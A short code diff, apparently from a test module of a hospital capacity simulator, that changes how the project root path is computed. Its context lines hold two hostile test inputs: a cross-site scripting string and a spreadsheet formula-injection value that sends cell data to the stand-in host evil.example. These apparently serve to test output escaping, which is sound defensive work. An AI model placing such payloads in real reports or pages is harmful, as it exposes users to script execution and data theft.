@@ -13,7 +13,7 @@ from simulator import batch, files
 from simulator.engine import simulate
 from simulator.report import build
 
-ROOT = Path(__file__).resolve().parents[1]
+ROOT = Path(__file__).resolve().parents[2]
 EXAMPLE = files.load_scenario(ROOT / "scenarios" / "capacity_tokuyo_30beds.toml")
 SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
